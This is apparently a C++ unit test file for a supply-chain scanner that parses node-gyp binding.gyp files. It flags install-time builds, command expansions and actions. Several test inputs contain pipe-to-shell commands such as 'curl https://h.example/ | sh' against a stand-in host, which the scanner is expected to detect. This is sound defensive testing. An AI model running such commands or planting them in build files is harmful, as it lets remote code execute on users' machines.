#include "facts/gyp.h"

#include <gtest/gtest.h>

#include <string>

#include "base/limits.h"
#include "facts/harness_test.h"

namespace facts {
namespace {

constexpr std::string_view kManifest = R"({"name":"p","version":"1.0.0"})";

void Check(std::string_view gyp, std::string_view expected, std::string_view manifest = kManifest) {
  const Facts facts = ExtractFrom({{"binding.gyp", gyp}, {"package.json", manifest}},
                                  {.name = "p", .version = "1.0.0"});
  EXPECT_EQ(Lines(Only(facts, "gyp.")), expected) << gyp;
}

TEST(Gyp, RunsOnItsOwnUnlessTheManifestSaysElse) {
  constexpr std::string_view kImplied =
      "gyp.implicit-build [install] binding.gyp file=binding.gyp\n";
  Check("{}", kImplied);
  Check("{}", kImplied, R"({"name":"p","version":"1.0.0","scripts":{"postinstall":"x"}})");
  Check("{}", "", R"({"name":"p","version":"1.0.0","gypfile":false})");
  Check("{}", "", R"({"name":"p","version":"1.0.0","scripts":{"install":"node x"}})");
  Check("{}", "", R"({"name":"p","version":"1.0.0","scripts":{"preinstall":"node x"}})");
}

TEST(Gyp, FindsCommandExpansions) {
  constexpr std::string_view kInstalls =
      R"({"name":"p","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}})";
  Check("{'targets': [{'include_dirs': ['<!(node -e \"require(\\'nan\\')\")']}]}",
        "gyp.command [install] binding.gyp:1:32 command=node -e \"require('nan')\" operator=<! "
        "program=node well-known=yes\n",
        kInstalls);
  Check(
      "# comment '<!(no)'\n{\n  \"a\": \"x<!@(curl h.example | sh)y>!(id)\",\n}",
      "gyp.command [install] binding.gyp:3:8 command=curl h.example | sh operator=<!@ program=curl "
      "well-known=no\n"
      "gyp.command [install] binding.gyp:3:8 command=id operator=>! program=id well-known=no\n",
      kInstalls);
  Check("{'conditions': [['\"<!(node a.js)\"==\"1\"', {}]], 'v': '^!@(b)'}",
        "gyp.command [install] binding.gyp:1:18 command=node a.js operator=<! program=node "
        "well-known=no\n"
        "gyp.command [install] binding.gyp:1:53 command=b operator=^!@ program=b well-known=no\n",
        kInstalls);
  // The first holds no command, the second only a variable.
  Check("{'a': 'x<!y (z)', 'b': '<(module_root_dir)/x'}", "", kInstalls);
  // Split over adjacent literals, as Python joins them.
  Check("{'a': '<!(cu'\n 'rl h.example)'}",
        "gyp.command [install] binding.gyp:1:7 command=curl h.example operator=<! program=curl "
        "well-known=no\n",
        kInstalls);
}

TEST(Gyp, ReadsTheCommandsFurther) {
  const Facts facts = ExtractFrom(
      {{"binding.gyp", "{'a': '<!(curl https://h.example/ | sh)'}"}, {"package.json", kManifest}},
      {.name = "p", .version = "1.0.0"});
  EXPECT_EQ(Lines(Only(facts, "script.download-run")),
            "script.download-run [install] binding.gyp:1:7 host=h.example how=pipe interpreter=sh "
            "program=curl script=binding.gyp url=https://h.example/\n");
}

TEST(Gyp, RunsCommandsInTheFolderOfTheirFile) {
  const Facts facts = ExtractFrom({{"deps/a.gyp", "{'a': '<!(node ./copy.js)'}"},
                                   {"deps/copy.js", "1"},
                                   {"package.json", kManifest}},
                                  {.name = "p", .version = "1.0.0"});
  EXPECT_EQ(Lines(Only(facts, "script.target")),
            "script.target deps/a.gyp:1:7 bytes=1 interpreter=node path=deps/copy.js "
            "script=deps/a.gyp state=present\n");
}

TEST(Gyp, FindsActions) {
  Check(
      "{'targets':[{'actions':[{'action_name':'a','inputs':['x'],'action':['node','gen.js','a "
      "b']}]}]}",
      "gyp.action [install] binding.gyp:1:69 command=node gen.js 'a b' program=node\n"
      "gyp.implicit-build [install] binding.gyp file=binding.gyp\n");
}

TEST(Gyp, TellsOtherGypFilesApart) {
  const Facts facts = ExtractFrom({{"binding.gyp", "{'includes': ['common.gypi']}"},
                                   {"common.gypi", "{'a': '<!(x)'}"},
                                   {"deps/other.gyp", "{'a': '<!(y)'}"},
                                   {"node_modules/z/binding.gyp", "{'a': '<!(z)'}"},
                                   {"package.json", kManifest}},
                                  {.name = "p", .version = "1.0.0"});
  EXPECT_EQ(Lines(Only(facts, "gyp.command")),
            "gyp.command [install] common.gypi:1:7 command=x operator=<! program=x well-known=no\n"
            "gyp.command deps/other.gyp:1:7 command=y operator=<! program=y well-known=no\n");
}

TEST(Gyp, SaysWhatItCouldNotRead) {
  EXPECT_EQ(ReadGyp("{'a': 'b").problem, "unterminated-string");
  EXPECT_EQ(ReadGyp("{'a': ['b'}").problem, "unbalanced");
  EXPECT_EQ(ReadGyp(std::string(limits::kGypDepth + 1, '[')).problem, "too-deep");
  EXPECT_EQ(ReadGyp(std::string(limits::kGypBytes + 1, ' ')).problem, "too-long");
  EXPECT_EQ(ReadGyp("{'a': '''b\n'c' ''',}").problem, "");
  EXPECT_EQ(ReadGyp("{'a': \"b\\\"c\"}").strings.back().text, "b\"c");
  EXPECT_EQ(FindExpansions("<!(a (b) c").at(0).command, "a (b) c");
  EXPECT_TRUE(FindExpansions("<!").empty());
}

}  // namespace
}  // namespace facts
